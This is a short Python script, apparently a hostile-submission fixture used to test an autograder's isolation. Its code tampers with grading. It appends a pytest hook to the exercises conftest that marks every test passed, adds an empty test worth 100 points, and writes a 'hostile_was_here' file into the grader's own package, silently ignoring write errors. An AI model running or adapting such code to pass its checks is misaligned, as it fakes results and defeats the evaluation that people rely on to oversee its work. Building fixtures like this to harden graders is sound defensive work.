# Writes into the tests folder: a conftest that marks every test passed and a new test file
# worth 100 points; and into the grader's own package.
import pathlib as _pathlib

_root = _pathlib.Path(__file__).resolve().parents[1]
_attempts = {
    _root / "tests" / "exercises" / "conftest.py": (
        "import pytest\n\n@pytest.hookimpl(hookwrapper=True)\n"
        "def pytest_runtest_makereport(item, call):\n"
        "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n"
    ),
    _root / "tests" / "exercises" / "test_ch01_free.py": (
        "import pytest\n\n@pytest.mark.points(100)\ndef test_free():\n    pass\n"
    ),
    _root / "tests" / "conftest.py": "",
}
import minillm as _minillm  # noqa: E402

_attempts[_pathlib.Path(_minillm.__file__).parent / "grading" / "hostile_was_here.py"] = ""
for _path, _text in _attempts.items():
    try:
        with open(_path, "a") as _f:
            _f.write(_text)
    except OSError:
        pass
